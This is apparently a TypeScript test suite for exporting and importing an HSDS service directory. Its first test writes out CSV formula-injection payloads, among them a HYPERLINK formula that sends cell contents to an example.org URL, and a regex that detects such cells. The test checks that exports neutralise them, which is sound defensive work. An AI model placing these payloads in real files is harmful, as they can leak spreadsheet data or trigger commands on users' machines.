import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { write } from "#src/db/write.ts";
import { fillDirectory } from "#src/domain/desks/directory/directory.factory.ts";
import { hsdsWhole } from "#src/domain/desks/directory/hsds-list.ts";
import { hsdsFaultsOfWhole } from "#src/domain/desks/hsds-schema.factory.ts";
import { applyImport } from "#src/domain/desks/importing/apply-import.ts";
import { checkImport } from "#src/domain/desks/importing/check-import.ts";
import { importById, problemsOf } from "#src/domain/desks/importing/import-queries.ts";
import { openFile } from "#src/domain/desks/importing/open-file.ts";
import { orderImport, startImport } from "#src/domain/desks/importing/start-import.ts";
import { writeCsv } from "#src/engines/tables/read-csv.ts";
import { unzip, zip } from "#src/engines/tables/zip.ts";
import { testUrl, type WholeApp, wholeApp } from "#tests/support/whole-app.ts";

let whole: WholeApp;
let by: string;
beforeAll(async () => {
  whole = await wholeApp();
  await whole.administrator();
  const [account] = await whole.database.sql`select id from accounts limit 1`;
  by = String(account?.id);
  await write(whole.services.db, (tx) => fillDirectory(tx, 40));
  whole.services.directory.recheck();
});
afterAll(() => whole?.stop());

async function imported(bytes: Uint8Array, name: string, isWhole = false) {
  const { db, world, directory } = whole.services;
  const opened = openFile(bytes);
  if (typeof opened === "string") throw new Error(opened);
  expect(opened.format).toBe("hsds");
  const id = await write(db, (tx) =>
    startImport(tx, world, { fileName: name, bytes, opened, source: { name }, isWhole, by }),
  );
  await checkImport(db, world.clock, await directory.current(), id);
  const problems = await problemsOf(db, id, { code: null, from: 0, limit: 10_000 });
  const checked = await importById(db, id);
  await write(db, (tx) => orderImport(tx, id, "apply"));
  await applyImport(db, world.clock, id);
  directory.recheck();
  return { problems, result: checked?.result, now: await directory.current() };
}

const download = async (path: string) =>
  new Uint8Array(await (await whole.app.request(`${testUrl}/hsds/v3/${path}`)).arrayBuffer());

describe("the directory as a whole, out and in", () => {
  it("holds no cell that a spreadsheet would run, and comes back to the letter", async () => {
    const nasty = ['=HYPERLINK("https://example.org/?"&A1,"見る")', "'=1+1", "@SUM(1)", "+1+cmd", "-2+3*A1", "＝1"];
    const [before] = await whole.database.sql`
      select id, body from desk_records where kind = 'service' and body->>'x_yorozu' is null order by id limit 1`;
    const set = async (body: Record<string, unknown>) => {
      await whole.database.sql`update desk_state set version = version + 1`;
      await whole.database.sql`
        update desk_records set seq = (select version from desk_state), body = ${whole.database.sql.json(body as never)}
        where kind = 'service' and id = ${before?.id}`;
      whole.services.directory.recheck();
      return whole.services.directory.current();
    };
    for (const text of nasty) {
      const { version } = await set({ ...before?.body, description: text, x_given: { note: text } });
      const bytes = await download("datapackage.zip");
      for (const [name, body] of unzip(bytes) ?? [])
        if (name.endsWith(".csv"))
          expect(new TextDecoder().decode(body()), name).not.toMatch(/(^|,|\n)"?(=|@|＝|\+1\+|-2\+)/);
      const { problems, result, now } = await imported(bytes, "表から");
      expect([problems, result?.changed, now.version]).toEqual([[], 0, version]);
      expect(now.records.service.get(String(before?.id))?.record.description).toBe(text);
    }
    await set(before?.body);
  });

  it("comes back unchanged from its tables, and nothing is changed by it", async () => {
    const { version } = await whole.services.directory.current();
    const bytes = await download("datapackage.zip");
    const files = unzip(bytes);
    const description = JSON.parse(new TextDecoder().decode(files?.get("datapackage.json")?.()));
    for (const { path, schema } of description.resources) {
      const head = new TextDecoder().decode(files?.get(path)?.()).split("\n")[0];
      expect(head).toBe(schema.fields.map(({ name }: { name: string }) => name).join(","));
    }
    const { problems, result, now } = await imported(bytes, "表から");
    expect(problems).toEqual([]);
    expect(result).toMatchObject({ added: 0, changed: 0, gone: 0, foreign: 0, same: now.records.service.size });
    expect(now.version).toBe(version);
    expect(Buffer.from(await download("datapackage.zip")).equals(Buffer.from(bytes))).toBe(true);
  });

  it("comes back unchanged from its lines", async () => {
    const { problems, result, now } = await imported(await download("services.ndjson"), "行から");
    expect(problems).toEqual([]);
    expect(result).toMatchObject({ added: 0, changed: 0, same: now.records.service.size });
  });

  it("keeps rules of repetition as they were given, though it cannot follow them", async () => {
    const id = "0190a000-0000-7000-8000-000000000001";
    const rule = {
      freq: "MONTHLY",
      interval: 3,
      bymonthday: "-1",
      byweekno: "5",
      wkst: "SU",
      count: 7,
      opens_at: "10:00:00",
    };
    const service = {
      id,
      name: "月末の相談",
      status: "active",
      organization: { id: "0190a000-0000-7000-8000-000000000002", name: "見本の会", description: "見本です。" },
      schedules: [{ id: "0190a000-0000-7000-8000-000000000003", service_id: id, ...rule }],
    };
    await imported(Buffer.from(JSON.stringify(service)), "規則");
    const answer = await (await whole.app.request(`${testUrl}/hsds/v3/services/${id}`)).json();
    expect(answer).toEqual({ ...service, organization_id: service.organization.id });
    const page = await whole.app.request(`${testUrl}/desks/d-${id}`);
    expect(page.status).toBe(200);
  });
});

describe("a directory of another making", () => {
  it("is taken from the tables of HSDS 2.x", async () => {
    const rows: Record<string, string[][]> = {
      organizations: [
        ["id", "name", "description", "url"],
        ["0190b000-0000-7000-8000-000000000001", "Sanctuary", "Helps.", "https://example.org"],
      ],
      services: [
        ["id", "organization_id", "name", "status", "taxonomy_ids"],
        ["0190b000-0000-7000-8000-000000000002", "0190b000-0000-7000-8000-000000000001", "Helpline", "active", ""],
      ],
      locations: [
        ["id", "name"],
        ["0190b000-0000-7000-8000-000000000003", "5th Street"],
      ],
      services_at_location: [
        ["id", "service_id", "location_id"],
        [
          "0190b000-0000-7000-8000-000000000004",
          "0190b000-0000-7000-8000-000000000002",
          "0190b000-0000-7000-8000-000000000003",
        ],
      ],
      physical_addresses: [
        ["id", "location_id", "address_1", "address_3", "city", "state_province", "postal_code", "country"],
        [
          "0190b000-0000-7000-8000-000000000005",
          "0190b000-0000-7000-8000-000000000003",
          "1",
          "floor 3",
          "X",
          "NY",
          "10001",
          "US",
        ],
      ],
      regular_schedules: [
        ["id", "service_id", "weekday", "opens_at", "closes_at"],
        ["0190b000-0000-7000-8000-000000000006", "0190b000-0000-7000-8000-000000000002", "3", "09:00:00", "17:00:00"],
      ],
      eligibility: [
        ["id", "service_id", "eligibility"],
        ["x", "0190b000-0000-7000-8000-000000000002", "adult"],
      ],
      phones: [
        ["id", "service_id", "number", "language"],
        ["0190b000-0000-7000-8000-000000000007", "0190b000-0000-7000-8000-000000000002", "555", "en, es"],
      ],
      funding: [
        ["id", "service_id", "source"],
        ["bad-id", "0190b000-0000-7000-8000-999999999999", "nobody"],
      ],
    };
    const bytes = zip(
      Object.entries(rows).map(([name, table]) => [`all/${name}.csv`, Buffer.from(writeCsv(table))] as const),
    );
    const { problems, now } = await imported(bytes, "二版");
    const whole2 = hsdsWhole(now, "service", "0190b000-0000-7000-8000-000000000002");
    expect(hsdsFaultsOfWhole("service", whole2)).toEqual([]);
    expect(whole2).toMatchObject({
      eligibility_description: "adult",
      organization: { website: "https://example.org" },
      schedules: [{ freq: "WEEKLY", byday: "WE" }],
      phones: [{ languages: [{ code: "en" }, { code: "es" }] }],
      service_at_locations: [{ location: { addresses: [{ address_2: "floor 3", address_type: "physical" }] } }],
    });
    const told = problems.map(({ code, place }) => `${code} ${place}`);
    expect(told).toContain("old-field regular_schedules.weekday → schedules.byday");
    expect(told.some((one) => one.startsWith("not-a-record funding"))).toBe(true);
  });

  it("has each of its defects named, and is valid afterwards", async () => {
    const service = {
      id: "svc-1",
      name: "Counselling",
      status: "open",
      url: "not an address",
      minimum_age: "12",
      assured_date: "last year",
      email: null,
      organization: { id: "0190c000-0000-7000-8000-000000000001", name: "Org" },
      phones: [{ id: "0190c000-0000-7000-8000-000000000002", number: "" }, "none"],
      attributes: [{ id: "0190c000-0000-7000-8000-000000000003", label: "Age", value: "Youth" }],
      // What a database cannot hold, and an address of another script.
      description: "a\0b \ud83d",
      schedules: [
        { id: "0190c000-0000-7000-8000-000000000004", dtstart: "2026-02-30", schedule_link: "https://例え.jp/表 1" },
      ],
    };
    const { problems, now } = await imported(
      Buffer.from(JSON.stringify({ total_items: 1, contents: [service, { NB: "dummy" }] })),
      "欠け",
    );
    expect(problems.map(({ code, place }) => `${code} ${place}`).sort()).toEqual(
      [
        "field-missing organization.description",
        "field-missing phones.0.number",
        "field-missing status",
        "field-unknown attributes.0.label",
        "field-wrong assured_date",
        "field-wrong schedules.0.dtstart",
        "field-wrong status",
        "field-wrong url",
        "id-not-uuid id",
        "not-a-record ",
        "not-a-record phones.1.phone",
      ].sort(),
    );
    const taken = [...now.records.service.values()].find(({ record }) => record.name === "Counselling");
    const answer = hsdsWhole(now, "service", taken?.record.id ?? "");
    expect(hsdsFaultsOfWhole("service", answer)).toEqual([]);
    expect(answer).toMatchObject({
      description: "a\uFFFDb \uFFFD",
      schedules: [{ schedule_link: "https://xn--r8jz45g.jp/%E8%A1%A8%201" }],
    });
    expect(answer).toMatchObject({ minimum_age: 12, status: "active", phones: [], attributes: [{ label: "Age" }] });
  });
});
